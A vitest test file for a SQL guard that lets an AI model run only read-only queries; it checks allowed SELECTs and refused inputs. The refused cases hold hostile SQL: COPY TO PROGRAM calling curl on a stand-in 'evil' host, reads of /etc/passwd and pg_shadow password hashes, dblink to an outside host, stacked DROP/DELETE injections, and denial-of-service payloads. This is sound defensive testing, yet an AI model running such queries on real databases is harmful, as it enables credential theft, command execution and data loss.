import { describe, expect, test } from 'vitest';
import { inspectQuery } from './sql-guard.ts';

const judge = (query: string) => inspectQuery(query);

describe('queries that only read are allowed, and what they touch is named', () => {
  test.each<[query: string, tables: string[], functions: string[]]>([
    ['select 1', [], []],
    ['select count(*) from tickets where created_at::date = current_date', ['tickets'], ['count']],
    ['SELECT id, subject FROM public.tickets ORDER BY id LIMIT 10;', ['tickets'], []],
    ['select t.id, c.name from tickets t join crm.customers c on c.id = t.customer_id', ['crm.customers', 'tickets'], []],
    ['with recent as (select * from tickets where id > 5) select priority, avg(id) from recent group by 1', ['tickets'], ['avg']],
    ['with recursive n(i) as (select 1 union all select i + 1 from n where i < 5) select sum(i) from n', [], ['sum']],
    ['values (1, \'a\'), (2, \'b\')', [], []],
    ['table tickets', ['tickets'], []],
    ['select * from information_schema.tables', ['information_schema.tables'], []],
    ['select column_name, data_type from information_schema.columns where table_name = \'tickets\'', ['information_schema.columns'], []],
    ['select priority, row_number() over (partition by priority order by id) from tickets', ['tickets'], ['row_number']],
    ['select id from tickets union all select id from archive except select 3', ['archive', 'tickets'], []],
    ['select case when body ilike \'%refund%\' then 1 else 0 end from tickets', ['tickets'], []],
    ['select date_trunc(\'day\', created_at) as day, count(*) filter (where status = \'open\') from tickets group by grouping sets ((1), ())', ['tickets'], ['count', 'date_trunc']],
    ['select * from tickets where id in (select ticket_id from notes where length(text) > 10)', ['notes', 'tickets'], ['length']],
    ['select * from tickets t, lateral (select max(id) from notes n where n.ticket_id = t.id) m', ['notes', 'tickets'], ['max']],
    ['select \'drop table tickets; -- not a command\' as text /* ; delete from tickets */ -- end', [], []],
    ['select j->>\'a\', jsonb_array_elements(j->\'b\') from docs', ['docs'], ['jsonb_array_elements']],
    ['select string_agg(lower(subject), \', \') from tickets', ['tickets'], ['lower', 'string_agg']],
    ['select format(\'%s: %5s\', id, status) from tickets', ['tickets'], ['format']],
    ['select pg_catalog.lower(\'A\')', [], ['lower']],
    ['select repeat(\'-\', 20)', [], ['repeat']],
  ])('%s', (query, tables, functions) => {
    expect(judge(query)).toMatchObject({ allowed: true, tables, functions });
  });

  test('a WITH name hides a table only where SQL says so', () => {
    expect(judge('select (with secrets as (select 1) select count(*) from secrets) from secrets')).toMatchObject({ allowed: true, tables: ['secrets'] });
    expect(judge('with secrets as (select * from secrets) select * from secrets')).toMatchObject({ allowed: true, tables: ['secrets'] });
    expect(judge('with secrets as (select 1) select * from public.secrets')).toMatchObject({ allowed: true, tables: ['secrets'] });
  });

  test('names after a dot and operators are handed on, for the session to check', () => {
    expect(judge('select t.payload, (t).owner from tickets t where t.a @@ t.b')).toMatchObject({ allowed: true, rowAttributes: ['a', 'b', 'payload'], valueAttributes: ['owner'], operators: ['@@'] });
  });
});

describe('everything else is refused with a reason the model can read', () => {
  test.each<[query: string, reason: RegExp]>([
    ['insert into tickets (id) values (1)', /INSERT is not allowed/],
    ['update tickets set status = \'closed\'', /UPDATE/],
    ['delete from tickets', /DELETE/],
    ['merge into tickets t using other o on t.id = o.id when matched then delete', /MERGE/],
    ['truncate tickets', /TRUNCATE/],
    ['drop table tickets', /DROP/],
    ['create table x (id int)', /CREATE TABLE/],
    ['create table x as select 1', /CREATE TABLE AS/],
    ['alter table tickets add column x int', /ALTER TABLE/],
    ['grant all on tickets to public', /GRANT/],
    ['create function f() returns int language sql as \'select 1\'', /CREATE FUNCTION/],
    ['create extension dblink', /CreateExtension/],
    ['do $$ begin delete from tickets; end $$', /DO/],
    ['call cleanup()', /CALL/],
    ['copy tickets to program \'curl http://evil\'', /COPY/],
    ['copy tickets from \'/etc/passwd\'', /COPY/],
    ['explain analyze delete from tickets', /EXPLAIN/],
    ['begin', /Transaction commands/],
    ['commit', /Transaction commands/],
    ['set transaction read write', /SET/],
    ['set role postgres', /SET/],
    ['show all', /SHOW/],
    ['listen channel', /LISTEN/],
    ['notify channel', /NOTIFY/],
    ['lock table tickets', /LOCK/],
    ['vacuum', /VACUUM/],
    ['prepare p as delete from tickets', /PREPARE/],
    ['execute p', /EXECUTE/],
    ['declare c cursor for select 1', /DECLARE/],
    ['select 1; select 2', /2 statements/],
    ['select 1; drop table tickets', /2 statements/],
    ['commit; drop table tickets', /2 statements/],
    ['select 1;;drop table tickets;', /2 statements/],
    ['with gone as (delete from tickets returning *) select * from gone', /DELETE/],
    ['with added as (insert into tickets default values returning id) select * from added', /INSERT/],
    ['select * into copy_of from tickets', /SELECT INTO/],
    ['select * from tickets for update', /FOR UPDATE/],
    ['select * from (select * from tickets for share) t', /FOR UPDATE/],
    ['select pg_read_file(\'/etc/passwd\')', /pg_read_file/],
    ['select pg_ls_dir(\'/\')', /pg_ls_dir/],
    ['select lo_import(\'/etc/passwd\')', /lo_import/],
    ['select lo_export(1, \'/tmp/x\')', /lo_export/],
    ['select pg_sleep(100)', /pg_sleep/],
    ['select pg_terminate_backend(1)', /pg_terminate_backend/],
    ['select pg_advisory_lock(1)', /pg_advisory_lock/],
    ['select set_config(\'transaction_read_only\', \'off\', false)', /set_config/],
    ['select current_setting(\'data_directory\')', /current_setting/],
    ['select nextval(\'tickets_id_seq\')', /nextval/],
    ['select dblink(\'host=evil\', \'select 1\')', /dblink/],
    ['select * from dblink(\'host=evil\', \'select 1\') as t(a int)', /dblink/],
    ['select query_to_xml(\'delete from tickets\', true, true, \'\')', /query_to_xml/],
    ['select my_schema.lower(\'A\')', /my_schema\.lower/],
    ['select count(*) from tickets where pg_notify(\'a\', \'b\') is null', /pg_notify/],
    ['select 1 order by pg_sleep(1)', /pg_sleep/],
    ['select 1 limit (select pg_sleep(1)::text::int)', /pg_sleep/],
    ['select sum(1) filter (where pg_sleep(1) is null)', /pg_sleep/],
    ['select 1 operator(evil.+) 2', /evil/],
    ['select * from pg_authid', /pg_authid/],
    ['select * from pg_catalog.pg_shadow', /pg_shadow/],
    ['select passwd from "pg_shadow"', /pg_shadow/],
    ['select * from information_schema.role_table_grants', /information_schema/],
    ['select * from other_database.public.tickets', /another database/],
    ['select * from tickets tablesample system (1)', /TABLESAMPLE/],
    ['select xmlparse(document \'<a/>\')', /XML/],
    ['select $1', /parameter/],
    ['select repeat(\'x\', 1000000000)', /repeat/],
    ['select repeat(\'x\', id) from tickets', /repeat/],
    ['select lpad(\'x\', 1000000000)', /lpad/],
    ['select format(\'%1000000000s\', 1)', /format/],
    ['select format(\'%*s\', 1000000000, 1)', /format/],
    ['select format(\'%1$*2$s\', 1, 1000000000)', /format/],
    ['select format(subject, 1) from tickets', /format/],
    ['', /empty/],
    ['-- nothing', /empty/],
    [';', /empty/],
    ['selec 1', /could not be parsed/],
    ['select \'open', /could not be parsed/],
    ['select 1\0; drop table tickets', /characters that are not text/],
  ])('%s', (query, reason) => {
    expect(judge(query)).toEqual({ allowed: false, reason: expect.stringMatching(reason) });
  });

  test('a query that is too long is refused unread', () => {
    expect(judge(`select '${'x'.repeat(20_000)}'`)).toEqual({ allowed: false, reason: expect.stringMatching(/longer than/) });
  });

  test.each([
    ['brackets', `select ${'('.repeat(9_000)}1${')'.repeat(9_000)}`],
    ['negations', `select ${'not '.repeat(4_900)}true`],
    ['sub-selects', `select ${'(select '.repeat(2_000)}1${')'.repeat(2_000)}`],
    ['calls', `select ${'abs('.repeat(3_000)}1${')'.repeat(3_000)}`],
  ])('thousands of nested %s get a verdict and do no harm to the next query', (_name, query) => {
    expect(judge(query)).toHaveProperty('allowed');
    expect(judge('select 1')).toMatchObject({ allowed: true });
    expect(judge('select pg_sleep(1)')).toMatchObject({ allowed: false });
  });
});
